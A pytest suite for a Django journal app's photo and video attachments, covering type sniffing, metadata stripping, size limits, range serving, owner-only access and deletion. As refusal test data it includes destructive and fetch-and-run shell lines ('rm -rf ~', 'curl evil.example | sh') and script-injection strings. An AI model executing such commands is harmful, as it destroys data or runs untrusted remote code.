"""Photos and videos on an episode: what is kept, what is refused, who may see them."""

import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from PIL import Image

from journal import attachments
from journal.attachments import MAX_PHOTO_BYTES, MAX_VIDEO_BYTES, parse_range, sniff
from journal.models import Attachment, Episode
from journal.services import account_delete, episode_delete
from tests.attachment_helpers import (
    GPS_IFD,
    MAKE,
    ORIENTATION,
    jpeg_with_gps,
    png_bytes,
    private_storage_fixture,  # noqa: F401 - the private_storage fixture
    stored_files,
    upload,
    webm_bytes,
)
from tests.conftest import api_token
from tests.factories import EpisodeFactory, UserFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_storage")]


@pytest.fixture
def episode(user):
    return EpisodeFactory(user=user)


@pytest.fixture
def api(api_client, user):
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {api_token(user)}")
    return api_client


def list_url(episode) -> str:
    return reverse("api-attachment-list", args=[episode.pk])


def detail_url(attachment) -> str:
    return reverse("api-attachment-detail", args=[attachment.pk])


def post_file(api, episode, name, content, content_type="application/octet-stream"):
    return api.post(
        list_url(episode), {"file": upload(name, content, content_type)}, format="multipart"
    )


def body(response) -> bytes:
    return b"".join(response.streaming_content)


# What a file is: its first bytes, never its name -----------------------------------------


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "image/png"),
        (webm_bytes(64), "video/webm"),
        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00", "video/mp4"),
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x00\x00", "video/mp4"),
        (b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00", "video/quicktime"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", None),  # a HEIF photo, not a video
        (b"\x1a\x45\xdf\xa3\x9f\x42\x82\x88matroska", None),  # Matroska, not WebM
        (b"#!/bin/sh\nrm -rf ~\n", None),
        (b"<script>alert(1)</script>", None),
        (b"GIF89a\x01\x00", None),
        (b"%PDF-1.7", None),
        (b"", None),
    ],
)
def test_the_type_is_read_from_the_first_bytes(head, expected):
    assert sniff(head) == expected


# Photos lose their metadata ---------------------------------------------------------------


def test_a_photo_with_gps_goes_in_and_comes_back_without_it(api, episode, private_storage):
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as sent:  # the test's photo really has them
        assert sent.getexif().get_ifd(GPS_IFD)[1] == "N"
        assert sent.getexif()[MAKE] == "AcmeCam"

    response = post_file(api, episode, "IMG_0001.jpg", original, "image/jpeg")

    assert response.status_code == 201, response.content
    data = response.json()
    assert data["kind"] == "photo"
    assert data["content_type"] == "image/jpeg"
    assert set(data) >= {"id", "kind", "content_type", "size", "url"}
    back = body(api.get(data["url"]))
    assert data["size"] == len(back)
    with Image.open(io.BytesIO(back)) as returned:
        exif = returned.getexif()
        assert not exif.get_ifd(GPS_IFD)
        assert MAKE not in exif and ORIENTATION not in exif
        assert "exif" not in returned.info
        # Orientation 6 was applied to the pixels: the 40x20 photo now stands 20x40.
        assert returned.size == (20, 40)
    assert b"AcmeCam" not in back and b"Exif" not in back and b"12345" not in back
    # What is stored is what came back: the original never reached the storage.
    (stored,) = stored_files(private_storage)
    assert stored.read_bytes() == back


def test_a_png_is_kept_as_a_png_without_text_chunks(api, episode):
    image = Image.new("RGB", (6, 6), "blue")
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "51.5,-0.12")
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info)

    response = post_file(api, episode, "shot.png", out.getvalue(), "image/png")

    assert response.status_code == 201
    assert response.json()["content_type"] == "image/png"
    back = body(api.get(response.json()["url"]))
    assert back.startswith(b"\x89PNG") and b"51.5" not in back


def test_the_stored_name_is_random_and_not_the_persons(api, episode, private_storage):
    post_file(api, episode, "my-face-at-home.jpg", jpeg_with_gps(), "image/jpeg")
    (stored,) = stored_files(private_storage)
    assert "my-face" not in stored.name
    assert len(stored.stem) == 32


# Refusals: a clear message, and nothing stored -------------------------------------------


def assert_nothing_stored(folder, episode):
    assert not Attachment.objects.filter(episode=episode).exists()
    assert stored_files(folder) == []


@pytest.mark.parametrize(
    ("name", "content", "declared"),
    [
        ("holiday.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", "image/jpeg"),
        ("clip.mp4", b"<html><script>alert(1)</script></html>", "video/mp4"),
        ("photo.jpg", b"GIF89a" + b"\x00" * 100, "image/jpeg"),
    ],
)
def test_a_file_that_is_not_a_photo_or_video_is_refused(
    api, episode, private_storage, name, content, declared
):
    response = post_file(api, episode, name, content, declared)

    assert response.status_code == 400
    assert response.json() == {"file": [attachments.REFUSED_TYPE]}
    assert_nothing_stored(private_storage, episode)


def test_a_script_behind_jpeg_magic_bytes_is_refused_as_a_broken_photo(
    api, episode, private_storage
):
    response = post_file(api, episode, "x.jpg", b"\xff\xd8\xff<script>alert(1)</script>")

    assert response.status_code == 400
    assert response.json() == {"file": [attachments.BROKEN_PHOTO]}
    assert_nothing_stored(private_storage, episode)


def test_a_photo_over_10_mb_is_refused(api, episode, private_storage):
    too_big = png_bytes() + b"\x00" * (MAX_PHOTO_BYTES + 1 - len(png_bytes()))

    response = post_file(api, episode, "big.png", too_big, "image/png")

    assert response.status_code == 400
    assert response.json() == {"file": ["This photo is too big: 10 MB at most. Nothing was saved."]}
    assert_nothing_stored(private_storage, episode)


def test_a_video_over_50_mb_is_refused_and_one_of_50_mb_is_kept(episode, private_storage):
    from django.core.exceptions import ValidationError

    over = upload("long.webm", webm_bytes(4096))
    over.size = MAX_VIDEO_BYTES + 1  # the check reads the size first, never the content
    with pytest.raises(ValidationError) as refused:
        attachments.attachment_add(episode=episode, upload=over)
    assert refused.value.message_dict == {
        "file": ["This video is too big: 50 MB at most. Nothing was saved."]
    }
    assert_nothing_stored(private_storage, episode)

    exactly = upload("ok.webm", webm_bytes(4096))
    exactly.size = MAX_VIDEO_BYTES
    assert attachments.attachment_add(episode=episode, upload=exactly).kind == "video"


def test_an_empty_file_and_a_missing_one_are_refused(api, episode, private_storage):
    empty = post_file(api, episode, "empty.jpg", b"")
    missing = api.post(list_url(episode), {}, format="multipart")

    assert empty.status_code == missing.status_code == 400
    assert "file" in empty.json() and "file" in missing.json()
    assert_nothing_stored(private_storage, episode)


def test_a_fourth_file_is_refused(api, episode, private_storage):
    for n in range(3):
        assert post_file(api, episode, f"{n}.webm", webm_bytes()).status_code == 201

    fourth = post_file(api, episode, "3.jpg", jpeg_with_gps(), "image/jpeg")

    assert fourth.status_code == 400
    assert fourth.json() == {"file": [attachments.TOO_MANY]}
    assert episode.attachments.count() == 3
    assert len(stored_files(private_storage)) == 3


# The page: the no-script form, the gallery, deletion ---------------------------------------


def test_the_episode_page_offers_the_camera_and_shows_the_files(client, user, episode):
    client.force_login(user)
    page = client.get(episode.get_absolute_url()).content.decode()
    assert 'accept="image/*,video/*"' in page and "capture=" in page
    assert 'enctype="multipart/form-data"' in page

    response = client.post(
        reverse("journal:attachment_upload", args=[episode.pk]),
        {"file": upload("clip.webm", webm_bytes())},
        follow=True,
    )
    assert "Your video is saved." in response.content.decode()
    client.post(
        reverse("journal:attachment_upload", args=[episode.pk]),
        {"file": upload("face.jpg", jpeg_with_gps(), "image/jpeg")},
    )

    page = client.get(episode.get_absolute_url()).content.decode()
    video, photo = episode.attachments.order_by("id")
    assert f'playsinline src="{video.get_absolute_url()}"' in page
    assert f'<img class="attachment-media" src="{photo.get_absolute_url()}"' in page


def test_the_page_form_tells_why_a_file_was_refused(client, user, episode, private_storage):
    client.force_login(user)
    response = client.post(
        reverse("journal:attachment_upload", args=[episode.pk]),
        {"file": upload("notes.jpg", b"just some text", "image/jpeg")},
        follow=True,
    )
    assert attachments.REFUSED_TYPE in response.content.decode()
    assert_nothing_stored(private_storage, episode)


def test_a_full_episode_page_says_so_instead_of_offering_the_form(client, user, episode):
    for n in range(3):
        attachments.attachment_add(episode=episode, upload=upload(f"{n}.webm", webm_bytes()))
    client.force_login(user)
    page = client.get(episode.get_absolute_url()).content.decode()
    assert 'type="file"' not in page
    assert "the most it can have" in page


def test_the_episode_page_reads_its_attachments_in_one_query(
    client, user, episode, django_assert_num_queries
):
    client.force_login(user)
    client.get(episode.get_absolute_url())
    with CaptureQueriesContext(connection) as none:
        client.get(episode.get_absolute_url())
    for n in range(3):
        attachments.attachment_add(episode=episode, upload=upload(f"{n}.webm", webm_bytes()))
    with django_assert_num_queries(len(none)):
        client.get(episode.get_absolute_url())


def test_deleting_from_the_page_removes_the_file(
    client, user, episode, private_storage, django_capture_on_commit_callbacks
):
    attachment = attachments.attachment_add(episode=episode, upload=upload("a.webm", webm_bytes()))
    client.force_login(user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("journal:attachment_delete", args=[attachment.pk]))
    assert response.status_code == 302
    assert_nothing_stored(private_storage, episode)


# Serving: only the owner, never stored, never sniffed, with ranges -------------------------


@pytest.fixture
def video(episode):
    return attachments.attachment_add(episode=episode, upload=upload("v.webm", webm_bytes(1000)))


def test_the_file_is_served_privately(api, video):
    response = api.get(detail_url(video))

    assert response.status_code == 200
    assert body(response) == webm_bytes(1000)
    assert response["Content-Type"] == "video/webm"
    assert response["Content-Length"] == "1000"
    assert response["Accept-Ranges"] == "bytes"
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == f'inline; filename="twitchcare-{video.pk}.webm"'


def test_the_page_address_serves_the_same_file_to_the_owner(client, user, video):
    client.force_login(user)
    response = client.get(video.get_absolute_url())
    assert response.status_code == 200
    assert body(response) == webm_bytes(1000)
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize(
    ("header", "first", "last"),
    [
        ("bytes=0-9", 0, 9),
        ("bytes=10-", 10, 999),
        ("bytes=-5", 995, 999),
        ("bytes=990-5000", 990, 999),
        ("bytes=0-0", 0, 0),
    ],
)
def test_a_range_request_gets_206_with_content_range(api, video, header, first, last):
    response = api.get(detail_url(video), HTTP_RANGE=header)

    assert response.status_code == 206
    assert response["Content-Range"] == f"bytes {first}-{last}/1000"
    assert response["Content-Length"] == str(last - first + 1)
    assert body(response) == webm_bytes(1000)[first : last + 1]


@pytest.mark.parametrize("header", ["bytes=1000-", "bytes=5000-6000", "bytes=9-2", "bytes=x-y",
                                    "items=0-1", "bytes=-0", "bytes=-"])  # fmt: skip
def test_a_range_that_cannot_be_satisfied_gets_416(api, video, header):
    response = api.get(detail_url(video), HTTP_RANGE=header)

    assert response.status_code == 416
    assert response["Content-Range"] == "bytes */1000"


def test_several_ranges_are_answered_with_the_whole_file():
    assert parse_range("bytes=0-1,5-6", 100) is None


def test_the_list_answers_what_the_upload_answered(api, episode, video):
    response = api.get(list_url(episode))
    assert response.status_code == 200
    (item,) = response.json()["results"]
    assert item["id"] == video.pk
    assert item["kind"] == "video" and item["size"] == 1000
    assert item["url"].endswith(detail_url(video))


@pytest.mark.parametrize("count", [1, 3])
def test_the_list_runs_the_same_queries_however_many_files(
    api, episode, django_assert_num_queries, count
):
    for n in range(count):
        attachments.attachment_add(episode=episode, upload=upload(f"{n}.webm", webm_bytes()))
    # The token (with user and profile), the episode, the count and the page.
    with django_assert_num_queries(4):
        response = api.get(list_url(episode))
    assert response.json()["count"] == count


def test_delete_answers_204_and_removes_row_and_file(
    api, episode, video, private_storage, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = api.delete(detail_url(video))
    assert response.status_code == 204
    assert_nothing_stored(private_storage, episode)
    assert api.get(detail_url(video)).status_code == 404


# Another person: a 404 everywhere ------------------------------------------------------------


def test_another_person_gets_404_for_every_attachment_address(client, api_client, video, episode):
    stranger = UserFactory()
    client.force_login(stranger)
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {api_token(stranger)}")

    assert client.get(video.get_absolute_url()).status_code == 404
    assert client.get(video.get_absolute_url(), HTTP_RANGE="bytes=0-1").status_code == 404
    assert client.post(reverse("journal:attachment_delete", args=[video.pk])).status_code == 404
    page_upload = client.post(
        reverse("journal:attachment_upload", args=[episode.pk]),
        {"file": upload("a.webm", webm_bytes())},
    )
    assert page_upload.status_code == 404
    assert api_client.get(detail_url(video)).status_code == 404
    assert api_client.delete(detail_url(video)).status_code == 404
    assert api_client.get(list_url(episode)).status_code == 404
    assert post_file(api_client, episode, "a.webm", webm_bytes()).status_code == 404
    assert Attachment.objects.filter(pk=video.pk).exists()
    assert episode.attachments.count() == 1


def test_a_visitor_is_sent_to_log_in_or_gets_401(client, api_client, video):
    assert client.get(video.get_absolute_url()).status_code == 302
    assert api_client.get(detail_url(video)).status_code == 401


# Deleted with the episode and with the account -----------------------------------------------


def test_deleting_the_episode_removes_its_files(
    episode, private_storage, django_capture_on_commit_callbacks
):
    attachments.attachment_add(episode=episode, upload=upload("a.webm", webm_bytes()))
    attachments.attachment_add(episode=episode, upload=upload("b.jpg", jpeg_with_gps()))
    assert len(stored_files(private_storage)) == 2

    with django_capture_on_commit_callbacks(execute=True):
        episode_delete(episode=episode)

    assert stored_files(private_storage) == []
    assert not Attachment.objects.exists()


def test_erasing_the_account_leaves_no_file(
    user, episode, private_storage, django_capture_on_commit_callbacks
):
    other = EpisodeFactory(user=UserFactory())
    attachments.attachment_add(episode=episode, upload=upload("a.webm", webm_bytes()))
    attachments.attachment_add(
        episode=EpisodeFactory(user=user), upload=upload("b.jpg", jpeg_with_gps())
    )
    kept = attachments.attachment_add(episode=other, upload=upload("c.webm", webm_bytes()))

    with django_capture_on_commit_callbacks(execute=True):
        account_delete(user=user)

    assert [path.name for path in stored_files(private_storage)] == [
        kept.file.name.rsplit("/", 1)[-1]
    ]
    assert list(Attachment.objects.all()) == [kept]
    assert not Episode.objects.filter(user_id=user.pk).exists()


def test_a_rolled_back_deletion_keeps_the_file(episode, private_storage):
    from django.db import transaction

    attachments.attachment_add(episode=episode, upload=upload("a.webm", webm_bytes()))
    with pytest.raises(RuntimeError), transaction.atomic():
        episode.delete()
        raise RuntimeError
    assert len(stored_files(private_storage)) == 1


# The export ---------------------------------------------------------------------------------


def test_the_json_export_lists_the_attachments(client, user, episode, video):
    client.force_login(user)
    data = json.loads(client.get(reverse("journal:export_json")).getvalue())
    assert data["attachments"] == [
        {
            "id": video.pk,
            "episode": episode.pk,
            "kind": "video",
            "content_type": "video/webm",
            "size": 1000,
            "created_at": video.created_at.isoformat(),
            "file": f"attachments/{video.pk}.webm",
        }
    ]


def test_the_zip_export_carries_the_files(client, user, video):
    import zipfile

    client.force_login(user)
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("journal:export_csv")).getvalue()))
    assert archive.read(f"attachments/{video.pk}.webm") == webm_bytes(1000)
    assert "attachments.csv" in archive.namelist()


@pytest.mark.parametrize("mode", ["P", "I;16", "CMYK", "1", "LA"])
def test_photos_in_any_mode_are_kept_as_pixels_only(episode, mode):
    image = Image.new(mode, (5, 4))
    out = io.BytesIO()
    kind = "JPEG" if mode == "CMYK" else "PNG"
    image.save(out, kind)

    attachment = attachments.attachment_add(episode=episode, upload=upload("p", out.getvalue()))

    with attachment.file.open("rb") as stored, Image.open(stored) as kept:
        assert kept.size == (5, 4)
        assert kept.format == kind
